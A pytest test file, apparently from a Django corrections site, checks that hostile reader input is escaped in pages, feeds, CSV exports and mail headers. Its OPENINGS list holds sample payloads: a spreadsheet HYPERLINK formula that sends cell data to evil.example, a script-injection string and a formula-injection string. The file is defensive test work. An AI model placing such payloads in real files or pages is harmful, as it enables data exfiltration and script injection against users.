"""Hostile words wherever anybody looks at them: shown as words, and no page gets an element or attribute by them."""

import csv
import json
from dataclasses import dataclass
from io import StringIO
from pathlib import Path
from typing import Any

import feedparser
import html5lib
import pytest
from lxml import etree

from corrections.suggestions.credits import MOST_NAMES
from tests.support.hostile_input import (
    Signature,
    bundles,
    dangerous_links,
    injections,
    naughty_strings,
    skeleton,
    words_of,
)
from tests.support.hostile_journey import Journey

pytestmark = pytest.mark.django_db
LONGEST = 1990  # a reader may write two thousand characters
STRINGS = naughty_strings()
# What harms only where it begins something: a mail's title, which is cut, or a spreadsheet's cell.
OPENINGS = ['=HYPERLINK("//evil.example/?"&A1,"x")', "</title><script>alert(1)</script> and", '"@SUM(1+1) onmouseover=']
# The same warnings at the desk as hostile words get, and nothing that could harm.
HARMLESS = [
    "They said “yes” to 12 of Anna Bell, not https://example.org/x ¶ the re\u200dad рaypal of it ¶ and more",
    "¶".join(f" harmless {number} " for number in range(60)).strip(),
    "BUY NOW!!! Click here for the BEST PRICES: www.casino.example/x, order today, free shipping, $5",
]
# Where the words stand in one piece: as a note, a question, an answer, a reason or a headline.
WHOLE_ON = ("private page", "case", "refused case", "settled case", "mail", "article ", "article changes/")
# Formats for machines: what is said there, as their own readers take it out.
JSON_ONES = ("changes/feed.json", "annotations/?page=1", "ninjs.json", "api", "api/revisions", "api/revisions/2")


@dataclass(frozen=True)
class Told:
    """What a journey with harmless words showed, and one with hostile words."""

    texts: list[str]
    harmless: Journey
    hostile: Journey


@pytest.fixture
def told(settings: Any, tmp_path: Path) -> Told:
    settings.DATA_DIR = tmp_path
    texts, names = [*OPENINGS, *bundles(STRINGS, longest=LONGEST)], bundles(injections(), longest=100)
    assert len(names) <= MOST_NAMES * len(texts)
    told = Told(texts, Journey(), Journey())
    for words in HARMLESS:
        told.harmless.walk(words, ["Ada", "Ben Bell"])
    for number, words in enumerate(texts):
        told.hostile.walk(words, names[number :: len(texts)])
    for journey in (told.harmless, told.hostile):
        journey.end()
    return told


def test_hostile_words_are_shown_as_words_wherever_anybody_looks(told: Told) -> None:
    """One test, since what it looks at takes its time to make."""
    no_page_has_more_elements_or_attributes(told)
    pages_show_the_words(told)
    formats_for_machines_hold_the_words(told)
    no_cell_is_a_formula(told)
    mails_have_the_headers_of_ours_alone(told)


def no_page_has_more_elements_or_attributes(told: Told) -> None:
    for label, pages in told.hostile.pages.items():
        known = set[Signature]().union(*map(skeleton, told.harmless.pages[label]))
        for page in pages:
            assert not (found := skeleton(page) - known), (label, [" ".join(way) for way in found])
            assert not dangerous_links(page), label


def pages_show_the_words(told: Told) -> None:
    for label in WHOLE_ON:
        pages = [words_of(page) for page in told.hostile.pages[label]]
        for words in told.texts:
            assert any(words in page for page in pages), (label, words)
    record = words_of(told.hostile.pages["/corrections/"][0])
    assert all(words in record for words in told.texts)
    for page in told.hostile.pages["article "]:
        [block] = html5lib.parse(page, namespaceHTMLElements=False).findall(".//script[@type='application/ld+json']")
        assert json.loads(block.text)["headline"] in told.texts


def formats_for_machines_hold_the_words(told: Told) -> None:
    for label in JSON_ONES:
        for words, answer in zip(told.texts, told.hostile.machines[label], strict=True):
            assert words in strings_in(json.loads(answer.content)), label
    for label in ("/corrections/feed.atom", "changes/feed.atom"):
        for answer in told.hostile.machines[label]:
            etree.fromstring(answer.content)
            said = {entry.content[0].value for entry in feedparser.parse(answer.content).entries}
            assert said & set(told.texts), label


def no_cell_is_a_formula(told: Told) -> None:
    [answer] = told.hostile.machines["export.csv"]
    rows = list(csv.reader(StringIO(b"".join(answer.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert len({len(row) for row in rows}) == 1
    assert not [cell for cell in cells if cell.lstrip(" \"'")[:1] in tuple("=+-@\t\r") and not cell.startswith("'")]
    assert {words.lstrip("'") for words in told.texts} <= {cell.lstrip("'") for cell in cells}


def mails_have_the_headers_of_ours_alone(told: Told) -> None:
    known = {name for mail in told.harmless.mails for name in mail.message()}
    assert told.hostile.mails
    for mail in told.hostile.mails:
        message = mail.message()
        assert set(message.keys()) == known
        assert len(message.keys()) == len(known)
        assert "\n" not in mail.subject


def strings_in(value: Any) -> set[str]:
    """Every string of a JSON value."""
    if isinstance(value, str):
        return {value}
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return set().union(*map(strings_in, items))
